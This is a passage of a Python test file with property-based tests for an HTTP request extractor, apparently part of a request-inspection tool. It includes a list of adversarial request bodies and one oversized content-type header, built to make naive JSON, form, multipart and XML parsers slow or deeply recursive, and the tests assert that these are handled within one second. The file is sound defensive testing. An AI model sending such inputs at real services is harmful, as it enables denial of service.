    ).map(b"".join),
)


@settings(max_examples=300, deadline=None)
@given(
    body=_byte_soup,
    content_type=st.sampled_from(CONTENT_TYPES),
    coding=st.sampled_from([None, "gzip", "deflate", "br", "gzip, deflate"]),
    compress=st.booleans(),
)
def test_any_body_gives_an_extraction(
    body: bytes, content_type: str | None, coding: str | None, compress: bool
) -> None:
    headers: tuple[tuple[str, str], ...] = ()
    if coding is not None:
        headers = (("Content-Encoding", coding),)
        if compress and coding == "gzip":
            body = gzip.compress(body)
    extraction = extract(_post(body, content_type, *headers), body_limit=1_500, max_parts=500)
    assert isinstance(extraction, Extraction)
    assert len(extraction.parts) <= 500
    if any(f.rule == "parts.limit" for f in extraction.findings):
        return
    # nothing passes uninspected: a body that does not split is scanned whole
    if extraction.malformed:
        assert any(part.slot == "body" and part.kind is R for part in extraction.parts)
    if body and coding is None and content_type in UNSPLIT:
        assert _body_triples(extraction)


@settings(max_examples=300, deadline=None)
@given(
    path=st.text(max_size=200),
    query=st.text(max_size=300),
    headers=st.lists(st.tuples(st.text(max_size=30), st.text(max_size=200)), max_size=12),
    body=st.binary(max_size=300),
)
def test_any_request_gives_an_extraction(
    path: str, query: str, headers: list[tuple[str, str]], body: bytes
) -> None:
    extraction = extract(HttpSample("POST", path, query, tuple(headers), body))
    assert isinstance(extraction, Extraction)
    assert extraction.parts[0].slot == "path"


ADVERSARIAL = [
    # (content type, body) shapes that make naive parsers quadratic or deep
    ("application/json", b"[" * 100_000),
    ("application/json", b'{"a":' * 50_000),
    ("application/x-www-form-urlencoded", b"&" * 130_000),
    ("application/x-www-form-urlencoded", b"a=%" * 40_000),
    ("multipart/form-data; boundary=b", b"\n--b" * 30_000),
    ("multipart/form-data; boundary=b", b"--b\r\n" + b"\n--bX" * 25_000),
    ("application/xml", b"<a>" * 40_000),
    ("application/xml", b"<a " + b'b="1" ' * 20_000 + b"/>"),
    ("text/plain", bytes(131_072)),
]


@pytest.mark.parametrize(("content_type", "body"), ADVERSARIAL)
def test_adversarial_bodies_are_fast(content_type: str, body: bytes) -> None:
    started = time.perf_counter()
    extract(_post(body, content_type))
    assert time.perf_counter() - started < 1.0


def test_adversarial_content_type_parameters_are_fast() -> None:
    header = "multipart/form-data" + '; a="x\\' * 20_000
    started = time.perf_counter()
    extract(_post(b"--x--", header))
    assert time.perf_counter() - started < 1.0
